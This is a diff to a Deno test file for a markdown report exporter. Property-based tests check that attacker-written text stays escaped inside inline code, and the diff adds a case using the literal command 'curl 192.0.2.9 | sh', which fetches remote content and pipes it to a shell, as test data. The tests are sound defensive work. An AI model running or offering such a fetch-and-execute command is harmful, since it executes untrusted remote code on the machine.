@@ -1,6 +1,6 @@
 import assert from "assert";
 import fc from "fast-check";
-import { code, escaped } from "../../../lib/export/report/markdown_text.ts";
+import { cellCode, code, escaped } from "../../../lib/export/report/markdown_text.ts";
 import { exportTag, variousTags } from "../exported.ts";
 import { HOSTILE_TEXTS } from "../hostile.ts";
 import { reported } from "../reported.ts";
@@ -37,11 +37,16 @@ Deno.test("whatever attackers wrote stays inside its code, on one line", () => {
       assert.equal(made.length, fence!.length * 2 + inner!.length, made);
       const runs = Array.from(inner!.matchAll(/`+/g), ([run]) => run.length);
       assert.ok(!runs.includes(fence!.length), made);
-      assert.doesNotMatch(inner!, /[\p{Cc}\p{Cf}]|(?<!\\)\|/u);
+      assert.doesNotMatch(inner!, /[\p{Cc}\p{Cf}]/u);
+      assert.doesNotMatch(cellCode(text), /\|/);
       assert.ok(inner!.length > 0 && !inner!.startsWith("`") && !inner!.endsWith("`"));
     }),
     { numRuns: 2000 },
   );
+});
+
+Deno.test("a command stands in a ticket as it was typed", () => {
+  assert.equal(code("curl 192.0.2.9 | sh"), "`curl 192.0.2.9 | sh`");
 });
 
 Deno.test("other text makes no markup, mention or link", () => {
